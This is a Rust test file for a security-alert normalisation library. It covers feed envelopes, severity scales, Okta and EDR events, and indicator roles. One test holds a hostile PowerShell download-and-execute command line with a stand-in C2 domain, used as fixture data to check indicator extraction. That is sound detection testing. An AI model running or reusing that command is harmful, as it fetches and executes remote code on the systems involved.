//! Tests generic feeds: lists, envelopes, flags and severities.

use std::collections::BTreeMap;

use insta::assert_snapshot;

use super::bases::with_roles;
use super::wrapping::{Wrapping, wrap};
use super::*;
use crate::feed::{GenericFeed, SeverityRule};
use crate::severity::SeverityScale;
use crate::{ContentFlag, DetailKind, FindingClass, Outcome, Severity};

fn pointers(fields: &[(&str, &str)]) -> BTreeMap<String, String> {
    let fields = fields.iter();
    fields
        .map(|(field, pointer)| ((*field).to_owned(), (*pointer).to_owned()))
        .collect()
}

fn feed(name: &str, matches: &str, fields: &[(&str, &str)]) -> GenericFeed {
    GenericFeed {
        name: name.to_owned(),
        matches: matches.to_owned(),
        fields: pointers(fields),
        ..GenericFeed::default()
    }
}

fn alertmanager() -> GenericFeed {
    let fields = [
        ("id", "/fingerprint"),
        ("type", "/labels/alertname"),
        ("severity", "/labels/severity"),
        ("first_seen", "/startsAt"),
        ("last_seen", "/endsAt"),
        ("resolved", "/status"),
        ("target", "/labels/instance"),
        ("trait", "envelope:/receiver"),
    ];
    feed("alertmanager", "/fingerprint", &fields)
}

fn group() -> Value {
    let alert = |status: &str, id: &str| {
        json!({"status": status, "fingerprint": id, "startsAt": "2026-11-26T22:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
            "labels": {"alertname": "Egress", "severity": "critical", "instance": id}})
    };
    json!({"version": "4", "status": "firing", "receiver": "triage", "alerts": [alert("resolved", "web-1"), alert("firing", "web-2")]})
}

fn read_with(feed: &GenericFeed, message: &Value) -> MessageContents {
    let options = ReadOptions {
        generic: vec![feed.clone()],
        ..ReadOptions::default()
    };
    read_message(message.to_string().as_bytes(), &options).unwrap()
}

fn severity_of(name: &str, severity: SeverityRule, sent: &Value) -> (Severity, bool) {
    let mut feed = feed(
        name,
        "/id",
        &[("id", "/id"), ("type", "/id"), ("severity", "/severity")],
    );
    feed.severity = severity;
    let alert = read_with(&feed, &json!({"id": "1", "severity": sent}))
        .alerts
        .remove(0);
    let flags = alert.flags.iter();
    let mut unknown = flags.filter(|flag| matches!(flag, ContentFlag::UnknownSeverity { .. }));
    (alert.severity, unknown.next().is_some())
}

#[test]
fn alerts_of_a_group_are_read_one_by_one() {
    let named = GenericFeed {
        list: Some("/alerts".to_owned()),
        ..alertmanager()
    };
    for feed in [alertmanager(), named] {
        let batch = read_with(&feed, &group());
        let told: Vec<_> = batch
            .alerts
            .iter()
            .map(|alert| (alert.key.id.as_str(), alert.state.resolved, alert.severity))
            .collect();
        let critical = Severity::Critical;
        assert_eq!(
            told,
            [("web-1", true, critical), ("web-2", false, critical)]
        );
        assert_eq!(batch.rejected, []);
        // Prometheus writes the year 1 where an alert has not ended.
        assert_eq!(batch.alerts[1].times.last_seen, None);
        let receivers: Vec<&str> = batch.alerts[1].details_of(DetailKind::Trait).collect();
        assert_eq!(receivers, ["triage"]);
    }
}

#[test]
fn lists_that_a_feed_names_are_opened_in_any_envelope() {
    let mut feed = feed(
        "siem",
        "/rule",
        &[
            ("id", "/id"),
            ("type", "/rule"),
            ("account", "envelope:/tenant"),
        ],
    );
    feed.list = Some("/page/hits".to_owned());
    let page = json!({"tenant": "t-1", "page": {"hits": [{"id": 1, "rule": "a"}, {"id": 2, "rule": "b"}, {"heartbeat": true}]}});
    for kind in [
        Wrapping::Sns,
        Wrapping::EventBridge,
        Wrapping::PubSub,
        Wrapping::CloudEvent,
        Wrapping::List,
    ] {
        let batch = read_with(&feed, &wrap(kind, &page));
        let keys: Vec<String> = batch
            .alerts
            .iter()
            .map(|alert| alert.key.to_string())
            .collect();
        assert_eq!(keys, ["siem/t-1/1", "siem/t-1/2"], "{kind:?}");
        assert_eq!(batch.rejected.len(), 1, "{kind:?}");
    }
}

#[test]
fn lists_without_a_finding_are_left_closed() {
    let mut feed = alertmanager();
    feed.list = Some("/alerts".to_owned());
    let options = ReadOptions {
        generic: vec![feed],
        ..ReadOptions::default()
    };
    for other in [
        json!({"alerts": []}),
        json!({"alerts": [{"x": 1}]}),
        json!({"events": ["x"]}),
    ] {
        let error = read_message(other.to_string().as_bytes(), &options).unwrap_err();
        assert!(
            matches!(&error, ReadError::UnknownShape { path, .. } if path.is_empty()),
            "{error}"
        );
    }
    // A finding of a built-in feed stays one finding, even when an attacker adds lists.
    let mut finding = parsed("guardduty-finding");
    finding["alerts"] = group()["alerts"].clone();
    let batch = read_message(finding.to_string().as_bytes(), &options).unwrap();
    assert_eq!(batch.alerts.len(), 1);
    assert_eq!(batch.alerts[0].feed, "guardduty");
}

#[test]
fn account_region_and_time_are_reached_in_the_envelope() {
    let fields = [
        ("id", "/id"),
        ("type", "/rule"),
        ("account", "envelope:/account"),
        ("region", "envelope:/region"),
        ("time", "envelope:/time"),
    ];
    let feed = feed("scanner", "/rule", &fields);
    let finding = json!({"id": "7", "rule": "Malware"});
    let event = json!({"detail-type": "x", "source": "scanner", "account": "111122223333", "region": "eu-west-1",
        "time": "2026-11-26T22:00:00Z", "detail": finding});
    for message in [event.clone(), wrap(Wrapping::Sns, &event)] {
        let alert = read_with(&feed, &message).alerts.remove(0);
        assert_eq!(alert.key.to_string(), "scanner/111122223333/7");
        assert_eq!(alert.region.as_deref(), Some("eu-west-1"));
        let seen = alert.times.first_seen.map(|time| time.to_rfc3339());
        assert_eq!(seen.as_deref(), Some("2026-11-26T22:00:00+00:00"));
    }
    // The innermost envelope that has a field counts.
    let inner =
        json!({"detail-type": "x", "region": "eu-central-1", "account": null, "detail": finding});
    let mut outer = event;
    outer["detail"] = inner;
    let alert = read_with(&feed, &outer).alerts.remove(0);
    assert_eq!(alert.account.as_deref(), Some("111122223333"));
    assert_eq!(alert.region.as_deref(), Some("eu-central-1"));
    let bare = read_with(&feed, &finding).alerts.remove(0);
    assert_eq!((bare.account, bare.region), (None, None));
}

#[test]
fn fields_of_every_transport_are_reached() {
    let finding = json!({"id": "7", "rule": "Malware"});
    let text = finding.to_string();
    let data = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &text);
    let time = "2026-11-26T22:00:00Z";
    for (pointer, message) in [
        (
            "envelope:/Timestamp",
            json!({"Type": "Notification", "TopicArn": "t", "Timestamp": time, "Message": text}),
        ),
        (
            "envelope:/message/publishTime",
            json!({"subscription": "s", "message": {"data": data, "publishTime": time}}),
        ),
        (
            "envelope:/time",
            json!({"specversion": "1.0", "type": "t", "source": "s", "time": time, "data": finding}),
        ),
    ] {
        let feed = feed(
            "scanner",
            "/rule",
            &[("id", "/id"), ("type", "/rule"), ("time", pointer)],
        );
        let alert = read_with(&feed, &message).alerts.remove(0);
        assert!(alert.times.first_seen.is_some(), "{pointer}");
    }
    let mut options = ReadOptions {
        generic: vec![feed(
            "scanner",
            "/rule",
            &[
                ("id", "/id"),
                ("type", "/rule"),
                ("account", "envelope:/subject"),
            ],
        )],
        ..ReadOptions::default()
    };
    let attributes = [("ce-specversion", "1.0"), ("ce-subject", "tenant-9")];
    options.attributes = pointers(&attributes);
    let batch = read_message(text.as_bytes(), &options).unwrap();
    assert_eq!(batch.alerts[0].account.as_deref(), Some("tenant-9"));
}

#[test]
fn stars_in_pointers_stand_for_elements() {
    let fields = [
        ("id", "/id"),
        ("type", "/rule"),
        ("ip", "/evidence/*/ip"),
        ("user", "/evidence/*/users/*"),
        ("technique", "/threat/*/technique/*/id"),
    ];
    let message = json!({"id": "7", "rule": "x", "evidence": [{"ip": "198.51.100.1"}, {"users": ["dana", "eve"]}, {"ip": "198.51.100.2"}],
        "threat": [{"technique": [{"id": "T1078"}]}, {"technique": []}, {"technique": [{"id": "T1110"}, {"id": "T1505"}]}]});
    let alert = read_with(&feed("xdr", "/rule", &fields), &message)
        .alerts
        .remove(0);
    for (kind, value) in [
        (IndicatorKind::Ip, "198.51.100.1"),
        (IndicatorKind::Ip, "198.51.100.2"),
        (IndicatorKind::Principal, "dana"),
        (IndicatorKind::Principal, "eve"),
    ] {
        assert!(has(&alert, kind, IndicatorRole::Related, value), "{value}");
    }
    let techniques: Vec<&str> = alert.techniques.iter().map(|one| one.id.as_str()).collect();
    assert_eq!(techniques, ["T1078", "T1110", "T1505"]);
}

#[test]
fn severities_are_on_the_scale_of_their_feed() {
    let told = |scale| SeverityRule {
        scale: SeverityScale::parse(scale),
        ..SeverityRule::default()
    };
    for (name, rule, sent, severity) in [
        (
            "falcon",
            SeverityRule::default(),
            json!(10),
            Severity::Informational,
        ),
        (
            "falco",
            SeverityRule::default(),
            json!("Alert"),
            Severity::Critical,
        ),
        ("edr", told("falcon"), json!("10"), Severity::Informational),
        ("edr", told("0-10"), json!(10), Severity::Critical),
        ("edr", told("1-4"), json!(1), Severity::High),
        ("edr", told("0-15"), json!(12.0), Severity::High),
    ] {
        assert_eq!(
            severity_of(name, rule, &sent),
            (severity, false),
            "{name} {sent}"
        );
    }
}

#[test]
fn severities_that_nobody_explained_are_told() {
    let unknown = |sent: Value| severity_of("edr", SeverityRule::default(), &sent);
    assert_eq!(unknown(json!("Urgent")), (Severity::Medium, true));
    assert_eq!(unknown(json!(10)), (Severity::Low, true));
    assert_eq!(unknown(json!(85)), (Severity::High, true));
    assert_eq!(unknown(json!("High")), (Severity::High, false));
    assert_eq!(unknown(json!(null)), (Severity::Medium, false));
}

#[test]
fn claims_are_kept_as_details() {
    let fields = [("id", "/id"), ("type", "/id"), ("claim", "/notes/*")];
    let message = json!({"id": "7", "notes": ["maintenance window CHG-1", "known scanner"]});
    let alert = read_with(&feed("edr", "/id", &fields), &message)
        .alerts
        .remove(0);
    let claims: Vec<&str> = alert.details_of(DetailKind::Claim).collect();
    assert_eq!(claims, ["known scanner", "maintenance window CHG-1"]);
}

#[test]
fn own_machine_that_calls_out_is_what_the_alert_is_about() {
    let fields = [
        ("id", "/id"),
        ("type", "/rule"),
        ("actor_ip", "/src"),
        ("target_ip", "/dst"),
        ("local_port", "/dport"),
        ("remote_port", "/sport"),
    ];
    let ids = feed("ids", "/rule", &fields);
    let read = |src: &str, dst: &str| {
        let message = json!({"id": "1", "rule": "beacon", "src": src, "dst": dst, "sport": 40112, "dport": 443});
        read_with(&ids, &message).alerts.remove(0)
    };
    let role = |alert: &Alert, value: &str| {
        let mut all = alert.indicators.iter();
        all.find(|one| one.value == value).unwrap().role
    };
    let out = read("10.0.0.9", "203.0.113.9");
    assert_eq!(role(&out, "10.0.0.9"), IndicatorRole::Target);
    assert_eq!(role(&out, "203.0.113.9"), IndicatorRole::Remote);
    assert_eq!(out.details_of(DetailKind::RemotePort).next(), Some("443"));
    assert_eq!(out.details_of(DetailKind::LocalPort).next(), Some("40112"));
    let inward = read("198.51.100.9", "10.0.0.9");
    assert_eq!(role(&inward, "198.51.100.9"), IndicatorRole::Actor);
    assert_eq!(role(&inward, "10.0.0.9"), IndicatorRole::Target);
    assert_eq!(inward.details_of(DetailKind::LocalPort).next(), Some("443"));
}

#[test]
fn placeholders_and_ports_are_no_part_of_a_name() {
    let fields = [
        ("id", "/id"),
        ("type", "/rule"),
        ("target", "/host"),
        ("principal", "/user"),
        ("container", "/container"),
    ];
    let message = json!({"id": "1", "rule": "r", "host": "web-1:9100", "user": "<NA>", "container": "unknown"});
    let alert = read_with(&feed("falco", "/rule", &fields), &message)
        .alerts
        .remove(0);
    let values: Vec<&str> = alert
        .indicators
        .iter()
        .map(|one| one.value.as_str())
        .collect();
    assert_eq!(values, ["web-1"]);
    assert!(alert.unreadable.is_empty());
}

/// Returns a feed for Okta's System Log, whose `target` lists all targets.
fn okta() -> GenericFeed {
    let fields = [
        ("id", "/uuid"),
        ("type", "/eventType"),
        ("action", "/eventType"),
        ("title", "/displayMessage"),
        ("principal", "/actor/alternateId"),
        ("actor_ip", "/client/ipAddress"),
        ("target_user", "/target/[type=User]/alternateId"),
    ];
    feed("okta", "/uuid", &fields)
}

#[test]
fn user_whom_it_was_done_to_is_a_target() {
    let event = json!({"uuid": "o1", "eventType": "user.mfa.factor.reset_all", "displayMessage": "Reset all factors for user",
        "actor": {"alternateId": "helpdesk@corp.example"}, "client": {"ipAddress": "203.0.113.12"},
        "target": [{"type": "AppInstance", "alternateId": "Console"}, {"type": "User", "alternateId": "dana@corp.example"}]});
    let alert = &read_with(&okta(), &event).alerts[0];
    assert_snapshot!(with_roles(alert, &[IndicatorRole::Actor, IndicatorRole::Target]), @"
    actor ip 203.0.113.12
    target principal dana@corp.example
    actor principal helpdesk@corp.example
    ");
    assert_eq!(
        alert.what_happened(),
        r#"Okta reports: "Reset all factors for user" by helpdesk@corp.example from 203.0.113.12 on dana@corp.example."#
    );
}

#[test]
fn product_that_tells_of_a_threat_did_not_act() {
    let of = |kind: &str, actor: &str| {
        let event = json!({"uuid": "o1", "eventType": kind, "actor": {"alternateId": actor}});
        with_roles(
            &read_with(&okta(), &event).alerts[0],
            &[IndicatorRole::Actor],
        )
    };
    assert_eq!(of("security.threat.detected", "unknown"), "");
    let event = json!({"uuid": "o1", "eventType": "security.threat.detected", "displayMessage": "Request from suspicious actor",
        "actor": {"alternateId": "system@okta.com"}, "client": {"ipAddress": "203.0.113.12"}});
    assert_eq!(
        read_with(&okta(), &event).alerts[0].what_happened(),
        r#"Okta reports: "Request from suspicious actor" by 203.0.113.12."#
    );
    assert_eq!(of("security.threat.detected", "system@okta.com"), "");
    let somebody = "actor principal system@okta.com";
    assert_eq!(of("user.lifecycle.create", "system@okta.com"), somebody);
}

#[test]
fn command_line_names_what_the_program_talks_to() {
    let feed = feed(
        "edr",
        "/id",
        &[("id", "/id"), ("type", "/id"), ("command_line", "/cmdline")],
    );
    let event = json!({"id": "e1", "cmdline": "powershell -nop iex(iwr http://203.0.113.9/a); ping c2.evil-lab.com"});
    assert_snapshot!(with_roles(&read_with(&feed, &event).alerts[0], &[IndicatorRole::Related, IndicatorRole::Remote]), @"
    related ip 203.0.113.9
    related domain c2.evil-lab.com
    related url http://203.0.113.9/a
    ");
}

#[test]
fn x13_session_of_a_feed_is_the_person_who_acted() {
    let fields = [
        ("id", "/id"),
        ("type", "/rule"),
        ("principal", "/who"),
        ("session", "/behind"),
        ("actor_ip", "/src"),
    ];
    let edr = feed("edr", "/rule", &fields);
    let finding = |behind: Value| json!({"id": "1", "rule": "r", "who": "deploy", "src": "198.51.100.23", "behind": behind});
    for behind in [
        json!("mallory"),
        json!(["mallory"]),
        json!({"name": "mallory"}),
    ] {
        let batch = read_with(&edr, &finding(behind.clone()));
        let alert = &batch.alerts[0];
        for name in ["deploy", "mallory"] {
            assert!(
                has(alert, IndicatorKind::Principal, IndicatorRole::Actor, name),
                "{behind}"
            );
            let mut callers = alert.callers.iter();
            let is_tied =
                callers.any(|one| one.principal.as_deref() == Some(name) && one.address.is_some());
            assert!(is_tied, "{behind}: {:?}", alert.callers);
        }
    }
    let unread = read_with(&edr, &finding(json!({"x": 1})));
    assert_eq!(unread.alerts[0].unreadable, ["/behind"]);
    let nobody = read_with(&edr, &finding(json!("n/a")));
    assert_eq!(
        with_roles(&nobody.alerts[0], &[IndicatorRole::Actor]),
        "actor ip 198.51.100.23\nactor principal deploy"
    );
}

#[test]
fn x02_ends_with_ports_are_told_apart_as_without() {
    let fields = [
        ("id", "/id"),
        ("type", "/rule"),
        ("actor_ip", "/src"),
        ("target_ip", "/dst"),
    ];
    let ndr = feed("ndr", "/rule", &fields);
    for (source, destination) in [
        (json!("10.0.0.4"), json!("203.0.113.66")),
        (json!("10.0.0.4:51000"), json!("203.0.113.66:443")),
        (json!(["10.0.0.4"]), json!({"ip": "203.0.113.66"})),
    ] {
        let finding = json!({"id": "1", "rule": "r", "src": source, "dst": destination});
        let batch = read_with(&ndr, &finding);
        let alert = &batch.alerts[0];
        assert_eq!(
            alert.direction,
            Some(crate::Direction::Outbound),
            "{finding}"
        );
        assert!(
            has(
                alert,
                IndicatorKind::Ip,
                IndicatorRole::Remote,
                "203.0.113.66"
            ),
            "{finding}"
        );
    }
}

#[test]
fn calls_of_a_feed_are_denied_by_their_error_code() {
    let feed = feed(
        "edr",
        "/edr",
        &[
            ("id", "/id"),
            ("type", "/edr"),
            ("principal", "/user"),
            ("operation", "/op"),
            ("outcome", "/result"),
            ("error_code", "/err"),
        ],
    );
    let of = |fields: Value| {
        let mut message = json!({"edr": "rule", "id": "1", "user": "alice", "op": "CreateUser"});
        let map = message.as_object_mut().unwrap();
        map.extend(fields.as_object().unwrap().clone());
        read_with(&feed, &message).alerts.remove(0)
    };
    for (fields, outcome) in [
        (json!({"err": "AccessDenied"}), Some(Outcome::Denied)),
        (json!({"err": 403}), Some(Outcome::Denied)),
        (json!({"err": "Throttling"}), Some(Outcome::Failed)),
        (json!({"err": "0"}), None),
        (json!({"err": ""}), None),
        (json!({}), None),
        (json!({"result": "forbidden"}), Some(Outcome::Denied)),
        (
            json!({"result": "FAILURE", "err": "UnauthorizedOperation"}),
            Some(Outcome::Denied),
        ),
        (
            json!({"result": "SUCCESS", "err": "AccessDenied"}),
            Some(Outcome::Succeeded),
        ),
        // One refusal of two calls tells nothing about the other one.
        (
            json!({"op": ["CreateUser", "ListUsers"], "err": ["AccessDenied"]}),
            None,
        ),
    ] {
        assert_eq!(of(fields.clone()).outcome, outcome, "{fields}");
    }
    insta::assert_snapshot!(of(json!({"err": "AccessDenied"})).what_happened(), @"alice tried to create a user and was denied (AccessDenied).");
}

#[test]
fn lists_and_elements_may_be_json_in_a_text() {
    let mut feed = feed("siem", "/rule", &[("id", "/id"), ("type", "/rule")]);
    feed.list = Some("/records".to_owned());
    let (one, two) = (
        json!({"rule": "a", "id": "1"}),
        json!({"rule": "a", "id": "2"}),
    );
    let elements = json!({"records": [one.to_string(), two.to_string()], "v": 1});
    let whole = json!({"records": json!([one, two]).to_string(), "v": 1});
    for message in [elements, whole] {
        let batch = read_with(&feed, &message);
        let ids: Vec<&str> = batch
            .alerts
            .iter()
            .map(|alert| alert.key.id.as_str())
            .collect();
        assert_eq!(ids, ["1", "2"], "{message}");
        assert_eq!(batch.rejected, []);
    }
    let known = json!({"alerts": [one.to_string()], "v": 1});
    feed.list = None;
    assert_eq!(read_with(&feed, &known).alerts.len(), 1);
}

#[test]
fn class_of_a_feed_is_its_word_or_its_constant() {
    let mut feed = feed(
        "scanner",
        "/id",
        &[("id", "/id"), ("type", "/id"), ("class", "/class")],
    );
    let class = |feed: &GenericFeed, word: &str| {
        let message = json!({"id": "1", "class": word});
        read_with(feed, &message).alerts.remove(0).class
    };
    for (word, expected) in [
        ("MISCONFIGURATION", FindingClass::Posture),
        ("vulnerabilities", FindingClass::Vulnerability),
        ("compliance", FindingClass::Posture),
        ("SENSITIVE-DATA", FindingClass::SensitiveData),
        ("TOXIC_COMBINATION", FindingClass::Threat),
        ("anything", FindingClass::Threat),
        ("", FindingClass::Threat),
    ] {
        assert_eq!(class(&feed, word), expected, "{word}");
    }
    feed.class = FindingClass::Posture;
    assert_eq!(class(&feed, ""), FindingClass::Posture);
    assert_eq!(class(&feed, "anything"), FindingClass::Posture);
    assert_eq!(class(&feed, "threat"), FindingClass::Threat);
}

#[test]
fn result_of_a_check_is_a_detail_only_where_it_decides_nothing() {
    let feed = GenericFeed {
        class: FindingClass::Posture,
        ..feed(
            "checks",
            "/id",
            &[
                ("id", "/id"),
                ("type", "/id"),
                ("passed", "/result"),
                ("check_result", "/result"),
            ],
        )
    };
    let of = |result: &str| {
        let alert = read_with(&feed, &json!({"id": "1", "result": result}))
            .alerts
            .remove(0);
        let results = alert.details_of(DetailKind::CheckResult).count();
        (alert.state.passed, results)
    };
    assert_eq!(of("passed"), (true, 0));
    assert_eq!(of("failed"), (false, 0));
    assert_eq!(of("not applicable"), (false, 1));
}
